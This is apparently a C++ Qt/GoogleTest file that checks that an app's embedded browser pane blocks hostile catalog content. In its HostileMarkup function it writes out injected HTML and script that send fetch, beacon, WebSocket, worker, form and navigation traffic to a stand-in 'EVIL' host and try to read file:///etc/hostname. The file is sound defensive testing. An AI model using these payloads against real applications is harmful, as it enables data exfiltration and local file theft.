#include <gtest/gtest.h>

#include <QTcpServer>
#include <QTest>
#include <QTcpSocket>
#include <QTreeWidgetItem>
#include <QNetworkDatagram>
#include <QUdpSocket>

#include "GuiTestSupport.h"
#include "ShownPaneTest.h"
#include "catalog/ContentType.h"
#include "pages/browser/CVantoryView.h"
#include "pages/browser/PageScheme.h"
#include "tree/CLeftView.h"

namespace {

using HostilePaneTest = ShownPaneTest;

// A server on loopback that notes the first line of every request and
// answers each with a tiny picture.
class RecordingServer : public QObject
{
public:
    RecordingServer()
    {
        m_server.listen(QHostAddress::LocalHost);
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = m_server.nextPendingConnection()) {
                ++m_connections;
                connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
                    const QByteArray line = socket->readLine().trimmed();
                    if (!line.isEmpty())
                        m_requests.append(QString::fromLatin1(line));
                    socket->readAll();
                    socket->write("HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: 0\r\n"
                                  "Connection: close\r\n\r\n");
                    socket->disconnectFromHost();
                });
            }
        });
    }

    QString Address() const { return QStringLiteral("127.0.0.1:%1").arg(m_server.serverPort()); }

    int m_connections = 0;
    QStringList m_requests;

private:
    QTcpServer m_server;
};

// Markup and script that catalog values carry into the pages: every way a
// page could reach the network or the disk that comes to mind.
std::string HostileMarkup(const QString& evil, const QString& content, quint16 udpPort)
{
    const QString markup = QStringLiteral(R"(
<img src="http://EVIL/img.png"><link rel="stylesheet" href="http://EVIL/style.css">
<iframe src="http://EVIL/frame"></iframe><video src="http://EVIL/video"></video>
<img src="https://EVIL/secure.png"><img src="file:///etc/hostname">
<img id="preview" src="http://CONTENT/media/preview.gif">
<form id="post" action="http://EVIL/form" method="post"></form>
<script>
window.results = {};
function note(name, promise) {
  promise.then(function () { results[name] = 'done'; }, function () { results[name] = 'refused'; });
}
function read(url) {
  return new Promise(function (ok, fail) {
    var r = new XMLHttpRequest();
    r.open('GET', url);
    r.onload = function () { if (r.responseText) ok(r.responseText); else fail(); };
    r.onerror = fail;
    r.send();
  });
}
note('fetch', fetch('http://EVIL/fetch'));
note('fetchContent', fetch('http://CONTENT/xhr'));
note('outside', read('/etc/hostname'));
note('fileUrl', read('file:///etc/hostname'));
note('inside', read('CWD/data/inside.txt'));
try { new WebSocket('ws://EVIL/socket'); } catch (e) {}
try { navigator.sendBeacon('http://EVIL/beacon', 'x'); } catch (e) {}
try { new Worker('http://EVIL/worker.js'); } catch (e) {}
try { window.open('http://EVIL/popup'); } catch (e) {}
try {
  var peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
  peer.createDataChannel('x');
  peer.createOffer().then(function (offer) { return peer.setLocalDescription(offer); });
} catch (e) {}
// Once the page has loaded, so that the test sees it loaded first.
window.addEventListener('load', function () {
  setTimeout(function () { document.getElementById('post').submit(); }, 100);
  setTimeout(function () { location.href = 'http://EVIL/navigate'; }, 200);
});
</script>)");
    QString text = markup;
    text.replace(QStringLiteral("EVIL"), evil)
        .replace(QStringLiteral("CONTENT"), content)
        .replace(QStringLiteral("UDP"), QString::number(udpPort))
        .replace(QStringLiteral("CWD"), QString::fromStdString(std::filesystem::current_path().string()));
    // In a CDATA section the markup reaches the catalog as it is.
    return "<![CDATA[" + text.toStdString() + "]]>";
}

TEST(HostileContentTest, PagesCannotReachTheNetworkOrFilesOutsideTheWorkingDirectory)
{
    TestDir dir;
    InstallTemplates();
    RecordingServer evil;
    RecordingServer content;
    QUdpSocket stun;
    ASSERT_TRUE(stun.bind(QHostAddress::LocalHost));
    int datagrams = 0;
    QObject::connect(&stun, &QUdpSocket::readyRead, [&] {
        while (stun.hasPendingDatagrams()) {
            stun.receiveDatagram();
            ++datagrams;
        }
    });
    WriteFile("data/inside.txt", "inside");
    const std::string hostile = HostileMarkup(evil.Address(), content.Address(), stun.localPort());
    WriteTypeCatalog(CT_WALLPAPERS, {{"1", "Bad " + hostile, {"Worse " + hostile}}});

    const ScopedVariable server("VANTORY_CONTENT_SERVER", content.Address());
    UrlRecorder desktop;
    RunningApp app;
    ASSERT_TRUE(app.Started());
    CLeftView& tree = *app.Tree();
    CVantoryView& view = *app.Browser();
    ASSERT_TRUE(WaitForLoaded(view));

    // The groups page and the items page both carry the markup.
    for (const QString& path : {QStringLiteral("Vantory/Wallpapers"), QString()}) {
        QTreeWidgetItem* node = path.isEmpty() ? tree.m_hWallpapers->child(0) : FindNode(tree, path);
        ASSERT_NE(node, nullptr);
        ASSERT_TRUE(LoadsNewPage(view, [&] { tree.SelectItem(node); }));
        ASSERT_TRUE(WaitFor([&] {
            return RunScript(view, QStringLiteral("window.results && Object.keys(results).length")).toInt() == 5;
        }));
        Pump(1500);
        EXPECT_EQ(RunScript(view, QStringLiteral(
                      "JSON.stringify(results, ['fetch', 'fetchContent', 'outside', 'fileUrl', 'inside'])")).toString(),
                  QStringLiteral(R"({"fetch":"refused","fetchContent":"refused","outside":"refused",)"
                                 R"("fileUrl":"refused","inside":"done"})"));
        EXPECT_EQ(view.url(), PageUrl());
    }

    EXPECT_EQ(evil.m_connections, 0) << evil.m_requests.join(QLatin1Char('\n')).toStdString();
    EXPECT_EQ(datagrams, 0);
    EXPECT_EQ(desktop.m_opened, QList<QUrl>());
    // Only the pictures of the content server came through.
    for (const QString& request : content.m_requests)
        EXPECT_EQ(request, QStringLiteral("GET /media/preview.gif HTTP/1.1"));
    EXPECT_FALSE(content.m_requests.isEmpty());
}

TEST_F(HostilePaneTest, LinksToTheWebOpenInTheUsersBrowser)
{
    CVantoryView& view = View();
    UrlRecorder desktop;
    ASSERT_TRUE(WritePage(view, "<html><body style='margin:0'>"
                                "<a id='blank' target='_blank' href='https://www.example.org/new'"
                                " style='display:block;width:200px;height:50px'>new window</a>"
                                "<a id='js' href='javascript:location.href=\"http://www.example.org/js\"'>js</a>"
                                "</body></html>"));
    // A click of the user on a link that asks for a window of its own.
    QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
    ASSERT_TRUE(WaitFor([&] { return !desktop.m_opened.isEmpty(); }));
    EXPECT_EQ(desktop.m_opened, QList<QUrl>{QUrl(QStringLiteral("https://www.example.org/new"))});
    // Script that sends the pane elsewhere, without a click of the user,
    // sends nothing to the desktop.
    Pump(1200);
    RunScript(view, QStringLiteral("document.getElementById('js').click(); 1"));
    RunScript(view, QStringLiteral("location.href = 'https://www.example.org/script'; 1"));
    Pump(300);
    EXPECT_EQ(desktop.m_opened.size(), 1);
    EXPECT_EQ(view.url(), PageUrl());
}

} // namespace
